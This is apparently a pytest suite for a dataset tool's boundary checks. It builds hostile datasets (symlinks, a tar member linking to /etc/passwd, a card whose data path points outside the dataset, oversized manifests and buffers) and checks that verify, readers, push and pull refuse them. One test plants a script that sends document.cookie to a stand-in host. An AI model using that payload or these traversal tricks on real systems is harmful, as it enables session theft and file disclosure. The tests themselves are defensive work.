"""The dataset boundary (shards.members) against every hostile case (tests/shards/hostile.py): verify reports the
case, readers refuse a link they would open and ignore the rest, and derive, push and pull copy nothing from
outside the dataset (the S3 run of push is in test_s3.py)."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest
from typer.testing import CliRunner

from tapdraft.cli import app, main
from tapdraft.shards.derive import DeriveConfig, derive_dataset
from tapdraft.common.errors import CorruptShardError
from tapdraft.shards.reader import open_dataset
from tapdraft.shards.transfer import pull, push
from tapdraft.shards.verify import verify_dataset
from tests.shards.hostile import (CASES, NUMBER_CASES, SECRET, TOKENIZER, build, build_numbers, good_dataset,
                                  inflate_arrow_buffer, leaked, replace_index, rewrite_columns)

ROOT = Path(__file__).resolve().parents[2]
LISTED = sorted(n for n, (listed, _) in CASES.items() if listed)
UNLISTED = sorted(n for n, (listed, _) in CASES.items() if not listed)


def _inspect_and_train_refuse(root, tmp_path, capsys, line: str) -> None:
    """``inspect --sample 0`` and a one-step ``train`` on ``root`` each exit 2 with one error line starting ``line``."""
    for cmd in (["inspect", str(root), "--sample", "0"],
                ["train", "--data", str(root), "--recipe", "dflash", "--out", str(tmp_path / "run"),
                 "--set", "max_steps=1"]):
        with pytest.raises(SystemExit) as e:
            main(cmd)
        err = [x for x in capsys.readouterr().err.strip().splitlines() if x.startswith("error")]
        assert e.value.code == 2 and len(err) == 1 and err[0].startswith(f"error: {line}"), (cmd, err)


@pytest.fixture(scope="module")
def good(tmp_path_factory):
    return good_dataset(tmp_path_factory.mktemp("good") / "ds")


def test_the_good_dataset_is_a_member_only_dataset(good, tmp_path):
    assert verify_dataset(str(good), progress=False).ok
    assert open_dataset(str(good)).bundle().tokenizer_files == {"tokenizer.json": TOKENIZER}
    push(str(good), str(tmp_path / "pushed"), progress=False)
    assert leaked(tmp_path / "pushed") == [] and verify_dataset(str(tmp_path / "pushed"), progress=False).ok


@pytest.mark.parametrize("name", sorted(CASES))
def test_verify_names_every_case_and_exits_1(good, tmp_path, name):
    case = build(name, good, tmp_path / "ds")
    rep = verify_dataset(str(case.root), progress=False)
    assert any(p.startswith(str(case.root / case.culprit)) for p in rep.problems), rep.problems
    r = CliRunner().invoke(app, ["verify", str(case.root)])
    assert r.exit_code in (1, 2) and str(case.root / case.culprit) in r.output, r.output


@pytest.mark.parametrize("name", LISTED)
def test_readers_refuse_a_link_they_would_open(good, tmp_path, name):
    case = build(name, good, tmp_path / "ds")
    with pytest.raises((CorruptShardError, ValueError), match=r"symlink|not a regular file"):
        ds = open_dataset(str(case.root))
        ds.bundle()
        list(ds.stream("train", seed=0, shuffle=False))


@pytest.mark.parametrize("name", UNLISTED)
def test_readers_ignore_what_is_not_listed(good, tmp_path, name):
    case = build(name, good, tmp_path / "ds")
    ds = open_dataset(str(case.root))
    assert ds.bundle().tokenizer_files == {"tokenizer.json": TOKENIZER}
    assert len(list(ds.stream("train", seed=0, shuffle=False))) == 4


@pytest.mark.parametrize("name", sorted(CASES))
def test_derive_copies_nothing_from_outside(good, tmp_path, name):
    case = build(name, good, tmp_path / "ds")
    out = tmp_path / "light"
    try:
        derive_dataset(DeriveConfig(src=str(case.root), out=str(out), top_k=2, progress=False))
    except (CorruptShardError, ValueError) as e:
        assert case.listed and ("symlink" in str(e) or "not a regular file" in str(e)), e
    else:
        assert not case.listed
        assert verify_dataset(str(out), progress=False).ok
    assert leaked(out) == [] if out.exists() else True


@pytest.mark.parametrize("name", sorted(CASES))
def test_push_sends_nothing_from_outside(good, tmp_path, name, capsys):
    case = build(name, good, tmp_path / "ds")
    dest = tmp_path / "bucket"
    if case.listed:  # refused before a byte is sent, in one line naming the link, exit 2
        with pytest.raises(SystemExit) as e:
            main(["push", str(case.root), str(dest)])
        err = capsys.readouterr().err.strip().splitlines()
        assert e.value.code == 2 and len(err) == 1 and str(case.root / case.culprit) in err[0], err
        assert not dest.exists() or not any(dest.rglob("*")), "a refused push must send nothing"
    else:
        push(str(case.root), str(dest), progress=False)
        assert verify_dataset(str(dest), progress=False).ok
        assert leaked(dest) == []


def test_pull_fetches_only_the_members(good, tmp_path):
    """A store holding more than the dataset (what an older push sent, or anyone wrote there) is pulled without it."""
    store = tmp_path / "store"
    shutil.copytree(good, store)
    (store / "target" / "tokenizer" / "vocab.json").write_bytes(SECRET)
    (store / "credentials.json").write_bytes(SECRET)
    st = pull(str(store), str(tmp_path / "copy"), progress=False)
    assert st["files"] == len(json.loads((good / "manifest.json").read_text())["splits"]["train"]["shards"]) * 2 + 4
    assert leaked(tmp_path / "copy") == [] and verify_dataset(str(tmp_path / "copy"), progress=False).ok


def test_pull_never_writes_into_or_deletes_from_a_users_directory(good, tmp_path):
    """A project (a README, a data/ folder) is refused before a byte is written; in a copy under way, a file that is
    no member is never deleted as "a bad file": the pull names it and leaves it."""
    project = tmp_path / "project"
    (project / "data").mkdir(parents=True)
    (project / "README.md").write_text("my project")
    (project / "data" / "notes.txt").write_text("mine")
    with pytest.raises(ValueError, match="not a tapdraft dataset"):
        pull(str(good), str(project), progress=False)
    assert sorted(p.relative_to(project).as_posix() for p in project.rglob("*")) == ["README.md", "data",
                                                                                      "data/notes.txt"]
    assert (project / "README.md").read_text() == "my project"
    copy = tmp_path / "copy"
    (copy / "_parts").mkdir(parents=True)  # a pull under way (its lock was released by a crash)
    (copy / "data").mkdir()
    (copy / "data" / "notes.txt").write_text("mine")
    with pytest.raises(CorruptShardError, match=r"not part of the dataset and were left as they are.*notes\.txt"):
        pull(str(good), str(copy), progress=False)
    assert (copy / "data" / "notes.txt").read_text() == "mine" and not (copy / "manifest.json").exists()
    (copy / "data" / "notes.txt").unlink()
    pull(str(good), str(copy), progress=False)
    assert verify_dataset(str(copy), progress=False).ok and not (copy / "_parts").exists()


def test_push_removes_what_an_older_push_sent_beside_the_dataset(good, tmp_path):
    dest = tmp_path / "bucket"
    push(str(good), str(dest), progress=False)
    (dest / "manifest.json").unlink()  # as an interrupted push left it, with a leak from an older tapdraft
    (dest / "target" / "tokenizer" / "vocab.json").write_bytes(SECRET)
    push(str(good), str(dest), progress=False)
    assert leaked(dest) == [] and verify_dataset(str(dest), progress=False).ok


def _tree(root):
    return sorted((str(p.relative_to(root)), p.is_dir() or p.stat().st_mtime_ns) for p in root.rglob("*"))


def test_readers_never_write_into_a_dataset(good, tmp_path):
    """A stray target.old (an interrupted bundle rewrite elsewhere) is left to writers: reading, verifying, deriving
    from and pushing the dataset change nothing in it, so a read-only mount reads the same."""
    root = tmp_path / "ds"
    shutil.copytree(good, root)
    shutil.copytree(root / "target", root / "target.old")
    before = _tree(root)
    ds = open_dataset(str(root))
    assert ds.bundle().tokenizer_files == {"tokenizer.json": TOKENIZER}
    assert len(list(ds.stream("train", seed=0, shuffle=False))) == 4
    rep = verify_dataset(str(root), progress=False)
    assert [p for p in rep.problems if "target.old" in p] and not [p for p in rep.problems if "target.old" not in p]
    derive_dataset(DeriveConfig(src=str(root), out=str(tmp_path / "light"), progress=False))
    push(str(root), str(tmp_path / "bucket"), progress=False)
    assert _tree(root) == before


def test_a_bundle_whose_rewrite_was_interrupted_is_named_not_repaired(good, tmp_path):
    root = tmp_path / "ds"
    shutil.copytree(good, root)
    (root / "target").rename(root / "target.old")
    before = _tree(root)
    with pytest.raises(FileNotFoundError, match=r"target\.old is there: a rewrite of the bundle was interrupted"):
        open_dataset(str(root)).bundle()
    assert _tree(root) == before


def _as_reader(cmd: list[str]) -> list[str]:
    """``cmd`` run by a user who may read the dataset but write nothing of it (root drops to nobody)."""
    if os.geteuid() != 0:
        return cmd
    if shutil.which("setpriv") is None:
        pytest.skip("running as root without setpriv: no unprivileged user to read as")
    return ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", *cmd]


@pytest.fixture()
def shared(good):
    """A copy of the good dataset in a directory everyone may read and its owner alone may write."""
    d = Path(tempfile.mkdtemp(prefix="tapdraft-shared-"))
    os.chmod(d, 0o755)
    shutil.copytree(good, d / "ds")
    for p in [d / "ds", *(d / "ds").rglob("*")]:
        os.chmod(p, 0o755 if p.is_dir() else 0o644)
    yield d / "ds"
    shutil.rmtree(d)


def _cli(*args: str) -> subprocess.CompletedProcess:
    env = {**os.environ, "PYTHONPATH": str(ROOT), "HOME": tempfile.gettempdir()}
    return subprocess.run(_as_reader([sys.executable, "-m", "tapdraft.cli", *args]), capture_output=True, text=True,
                          env=env, cwd=tempfile.gettempdir(), timeout=300)


def test_a_read_only_dataset_reads_and_an_unreadable_file_is_named_as_read(shared):
    shutil.copytree(shared / "target", shared / "target.old")  # readers would once have deleted it
    os.chmod(shared / "target.old", 0o755)
    r = _cli("inspect", str(shared), "--sample", "1")
    assert r.returncode == 0, r.stderr
    os.chmod(shared / "target" / "weights.safetensors", 0o000 if os.geteuid() != 0 else 0o600)
    r = _cli("inspect", str(shared))
    err = r.stderr.strip().splitlines()
    assert r.returncode == 2 and len(err) == 1, r.stderr
    assert err[0] == (f"error: permission denied reading {shared}/target/weights.safetensors; ask its owner for read "
                      "access, or copy it where you can read it")


def test_a_permission_error_on_a_new_file_is_a_write(tmp_path):
    from tapdraft.common.errors import classify

    code, msg = classify(PermissionError(13, "Permission denied", str(tmp_path / "new.json")))
    assert code == 2 and msg.startswith(f"permission denied writing {tmp_path}/new.json; choose a writable location")


@pytest.mark.parametrize("name", sorted(NUMBER_CASES))
def test_a_manifest_claiming_the_impossible_is_one_line_never_a_traceback(good, tmp_path, name, capsys):
    case = build_numbers(name, good, tmp_path / "ds")
    man = str(case.root / "manifest.json")
    with pytest.raises(ValueError, match=re.escape(man)):  # CorruptShardError or the schema's own ValueError
        open_dataset(str(case.root))
    for cmd in (["inspect", str(case.root)], ["inspect", str(case.root), "--sample", "8"],
                ["derive", str(case.root), "--out", str(tmp_path / "light")],
                ["push", str(case.root), str(tmp_path / "bucket")]):
        with pytest.raises(SystemExit) as e:
            main(cmd)
        err = capsys.readouterr().err.strip().splitlines()
        assert e.value.code == 2 and len(err) == 1 and man in err[0], (cmd, err)
    assert not (tmp_path / "light" / "target").exists(), "derive copied before it checked"
    rep = verify_dataset(str(case.root), progress=False)
    assert rep.problems and rep.problems[0].startswith(man), rep.problems


def test_a_manifest_past_its_bound_is_refused_by_its_size_before_a_byte_is_read(good, tmp_path, capsys):
    """Issue 57: a 1 GB manifest.json made inspect reach 3.5 GB before failing (read whole, then parsed). Its size is
    now checked by stat against MAX_MANIFEST_BYTES (128 MiB, shards.limits) first: a sparse file one byte past it is
    refused in one line naming the file and the bound, with nothing read (peak memory stays small)."""
    import tracemalloc

    from tapdraft.shards.limits import MAX_MANIFEST_BYTES

    root = tmp_path / "ds"
    shutil.copytree(good, root)
    with open(root / "manifest.json", "r+b") as f:
        f.truncate(MAX_MANIFEST_BYTES + 1)
    tracemalloc.start()
    try:
        with pytest.raises(SystemExit) as e:
            main(["inspect", str(root)])
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    err = capsys.readouterr().err.strip().splitlines()
    assert e.value.code == 2 and len(err) == 1, err
    assert str(root / "manifest.json") in err[0] and "MAX_MANIFEST_BYTES" in err[0] and str(MAX_MANIFEST_BYTES) in err[0]
    assert peak < 16 << 20, f"{peak} bytes allocated refusing it"


def test_a_bundle_file_past_its_bound_is_neither_read_nor_copied(tmp_path, monkeypatch, capsys):
    """Issue 57: a 1.2 GB tokenizer.json was read whole by train and inspect and copied whole by derive. Every bundle
    file but the weights is bounded (MAX_BUNDLE_FILE_BYTES, shards.limits) by its size before it is read, hashed,
    copied, pushed or pulled; here the bound is lowered so that a small, fully consistent dataset passes it."""
    from tapdraft.shards import bundle

    root = good_dataset(tmp_path / "ds", tokenizer=TOKENIZER + b" " * 4096)
    monkeypatch.setattr(bundle, "MAX_BUNDLE_FILE_BYTES", 1024)
    tok = str(root / "target" / "tokenizer" / "tokenizer.json")
    for cmd in (["inspect", str(root), "--sample", "0"], ["derive", str(root), "--out", str(tmp_path / "light")],
                ["push", str(root), str(tmp_path / "bucket")], ["pull", str(root), str(tmp_path / "copy")]):
        with pytest.raises(SystemExit) as e:
            main(cmd)
        err = capsys.readouterr().err.strip().splitlines()
        assert e.value.code == 2 and len(err) == 1 and tok in err[0] and "MAX_BUNDLE_FILE_BYTES" in err[0], (cmd, err)
    for out in ("light", "bucket", "copy"):
        assert not list((tmp_path / out).rglob("tokenizer.json")), f"{out} holds a copy of the refused file"
    rep = verify_dataset(str(root), progress=False)
    assert any(tok in p and "MAX_BUNDLE_FILE_BYTES" in p for p in rep.problems), rep.problems


@pytest.mark.parametrize("declared", [2**40, 2**62])
def test_an_arrow_buffer_claiming_terabytes_is_refused_before_allocation(good, tmp_path, declared, capsys):
    """Issue 28: a compressed buffer's length prefix (checksums recomputed) made inspect, train and derive die in
    ArrowMemoryError (or reserve that much); the declared size is now bounded from the message metadata first."""
    root = tmp_path / "ds"
    shutil.copytree(good, root)
    shard = str(root / inflate_arrow_buffer(root, declared))
    for cmd in (["inspect", str(root), "--sample", "0"], ["derive", str(root), "--out", str(tmp_path / "light")]):
        with pytest.raises(SystemExit) as e:
            main(cmd)
        err = capsys.readouterr().err.strip().splitlines()
        assert e.value.code == 2 and len(err) == 1 and shard in err[0] and "more than the bound" in err[0], err
    rep = verify_dataset(str(root), progress=False)
    assert [p for p in rep.problems if p.startswith(shard) and "more than the bound" in p], rep.problems


@pytest.mark.parametrize("raw", [b"[]", b"[" * 100_000 + b"]" * 100_000, b'{"version": 1, "batches": 5}'])
def test_an_index_of_the_wrong_shape_is_corrupt_naming_it(good, tmp_path, raw, capsys):
    root = tmp_path / "ds"
    shutil.copytree(good, root)
    index = str(root / replace_index(root, raw))
    with pytest.raises(SystemExit) as e:
        main(["inspect", str(root), "--sample", "0"])
    err = capsys.readouterr().err.strip().splitlines()
    assert e.value.code == 2 and len(err) == 1 and index in err[0], err
    assert any(p.startswith(index) for p in verify_dataset(str(root), progress=False).problems)


@pytest.mark.parametrize("edit,named", [({"drop": "topk_ids"}, "has no column 'topk_ids'"),
                                        ({"add": "notes"}, "has column(s) ['notes'] that schema 2.0 does not declare")])
def test_a_shard_whose_columns_are_not_its_declared_schema_is_refused_naming_the_column(tmp_path, edit, named, capsys):
    """Issue 57: a shard without its topk_ids column (every checksum recomputed) was a KeyError traceback in inspect
    and train, and one with an extra column was read everywhere and passed verify. Readers check a shard's columns
    against its layout's when they open it (``arrow.column_problems``) and refuse in one line naming the shard and the
    column; verify reports it. An extra column is refused, not ignored: no checksum covers it and stock loaders would
    return it as the dataset's (only a later minor of the schema may add columns)."""
    root = good_dataset(tmp_path / "ds", tokenizer=b'{"model": {"vocab": {"a": 0, "b": 1}}}')  # one train reads
    shard = str(root / rewrite_columns(root, **edit))
    _inspect_and_train_refuse(root, tmp_path, capsys, f"{shard}: {named}")
    rep = verify_dataset(str(root), progress=False)
    assert [p for p in rep.problems if p.startswith(shard) and named in p], rep.problems



def test_only_a_later_minor_of_the_schema_may_carry_a_column_this_code_does_not_know(good):
    """Minor additions stay readable (shards.schema.SCHEMA_VERSION): a later minor's unknown column is ignored, the
    same column in a shard of this version is undeclared, and a missing declared column is never fine."""
    import pyarrow as pa

    from tapdraft.shards.codec import FieldMeta
    from tapdraft.shards.formats.arrow import META_KEY, arrow_schema, column_problems

    meta = FieldMeta.from_dict(json.loads((good / "manifest.json").read_text())["field_meta"])
    declared = arrow_schema(meta, None)
    doc = json.loads(declared.metadata[META_KEY])
    assert column_problems(declared, meta, "s") == ([], [])
    extra = declared.append(pa.field("notes", pa.binary()))
    assert column_problems(extra, meta, "s")[1] and not column_problems(extra, meta, "s")[0]
    major = doc["schema_version"].split(".")[0]
    later = extra.with_metadata({META_KEY: json.dumps({**doc, "schema_version": f"{major}.9"})})
    assert column_problems(later, meta, "s") == ([], [])
    missing = later.remove(later.get_field_index("topk_ids"))
    assert column_problems(missing, meta, "s")[0] == [
        f"s: has no column 'topk_ids', which its layout declares (schema {major}.9): the shard is damaged or not this "
        "dataset's; re-copy it (or re-capture it)"]


def test_verify_reports_link_members_inside_a_tar_shard(tmp_path):
    """Issue 57: a WebDataset tar holding a symlink member (to /etc/passwd) and a hard link member passed verify,
    since every reader skips such members; verify now names each as a problem (exit 1), and readers still skip them
    (never followed)."""
    from tests.shards.hostile import add_tar_links, wds_dataset

    root = wds_dataset(tmp_path / "ds")
    assert verify_dataset(str(root), progress=False).ok
    shard = str(root / add_tar_links(root))
    rep = verify_dataset(str(root), progress=False)
    assert len(rep.problems) == 2, rep.problems
    assert rep.problems[0].startswith(f"{shard}: member ") and "is a symlink to '/etc/passwd'" in rep.problems[0]
    assert rep.problems[1].startswith(f"{shard}: member ") and "is a hard link to" in rep.problems[1]
    r = CliRunner().invoke(app, ["verify", str(root)])
    assert r.exit_code == 1 and "is a symlink" in r.output, r.output
    ds = open_dataset(str(root))
    assert len(list(ds.stream("train", seed=0, shuffle=False))) == ds.num_samples("train") == 4


@pytest.mark.parametrize("record", ["recomputed", "dropped"])
def test_a_card_whose_data_files_point_outside_the_dataset_is_a_verify_problem(good, tmp_path, record):
    """Issue 57: a README.md whose front matter's data_files named a file outside the dataset passed verify (its
    manifest record made to match, or dropped as in a manifest older than the record), and datasets.load_dataset then
    read the foreign file. verify compares the front matter with what finalize writes for the manifest."""
    import hashlib

    root = tmp_path / "ds"
    shutil.copytree(good, root)
    card = root / "README.md"
    text = card.read_text()
    assert text.startswith("---\n") and "path: data/train-*.arrow" in text
    card.write_text(text.replace("path: data/train-*.arrow", "path: ../outside-secret.arrow"))
    man = json.loads((root / "manifest.json").read_text())
    if record == "dropped":
        del man["card"]
    else:
        man["card"] = {"bytes": card.stat().st_size, "sha256": hashlib.sha256(card.read_bytes()).hexdigest()}
    (root / "manifest.json").write_text(json.dumps(man))
    rep = verify_dataset(str(root), progress=False)
    assert [p for p in rep.problems if p.startswith(f"{card}: its front matter")] == rep.problems != [], rep.problems
    r = CliRunner().invoke(app, ["verify", str(root)])
    assert r.exit_code == 1 and "front matter" in r.output, r.output
    with pytest.raises(CorruptShardError, match=re.escape(f"{card}: its front matter")):  # it was sent as is
        push(str(root), str(tmp_path / "bucket"), progress=False)
    assert not (tmp_path / "bucket" / "README.md").exists()


def test_push_refuses_a_card_that_is_not_the_one_its_manifest_records(good, tmp_path, capsys):
    """Issue 57: a card given HTML and a script after finalize was pushed as is (only verify and pull checked it
    against the manifest's record); push now refuses it in one line (exit 2) before anything is sent."""
    root = tmp_path / "ds"
    shutil.copytree(good, root)
    card = root / "README.md"
    card.write_text(card.read_text() + "\n<script>fetch('https://example.invalid/?' + document.cookie)</script>\n")
    with pytest.raises(SystemExit) as e:
        main(["push", str(root), str(tmp_path / "bucket")])
    err = capsys.readouterr().err.strip().splitlines()
    assert e.value.code == 2 and len(err) == 1 and err[0].startswith(f"error: {card}: not the card the manifest "
                                                                      "records"), err
    assert not list((tmp_path / "bucket").rglob("*.arrow")), "push sent shards before refusing the card"


def test_a_tar_sample_with_a_member_its_schema_does_not_declare_is_refused_as_an_extra_column_is(tmp_path, capsys):
    """Issue 57: an extra regular member in a WebDataset sample (``<key>.notes``, the shard's size, sha256 and index
    made to match) was read everywhere and passed verify, where Arrow's extra column is refused. Both follow one rule
    (``shards.schema.undeclared_problem``): readers refuse it in one line naming the shard, the sample and the member
    (exit 2); verify reports it (exit 1); only a dataset of a later minor of the schema may carry such members."""
    from tests.shards.hostile import add_tar_member, wds_dataset

    root = wds_dataset(tmp_path / "ds", tokenizer=b'{"model": {"vocab": {"a": 0, "b": 1}}}')
    man = json.loads((root / "manifest.json").read_text())
    shard = str(root / man["splits"]["train"]["shards"][0]["name"])
    member = add_tar_member(root, "notes")
    named = f"{shard}: sample {member.split('.')[0]!r}: has member(s) [{member!r}] that schema"
    _inspect_and_train_refuse(root, tmp_path, capsys, named)
    rep = verify_dataset(str(root), progress=False)
    assert [p for p in rep.problems if p.startswith(named)] == rep.problems and len(rep.problems) == 1, rep.problems
    r = CliRunner().invoke(app, ["verify", str(root)])
    assert r.exit_code == 1 and member in r.output, r.output
    from tapdraft.shards.codec import FieldMeta
    from tapdraft.shards.formats.wds import iter_tar_samples, member_problem

    meta = FieldMeta.from_dict(man["field_meta"])
    with open(shard, "rb") as f:
        raw = next(iter_tar_samples(f, shard))
    major = man["schema_version"].split(".")[0]
    assert member_problem(raw, meta, man["schema_version"]) and member_problem(raw, meta, f"{major}.9") is None
    del raw["notes"]
    assert member_problem(raw, meta, man["schema_version"]) is None
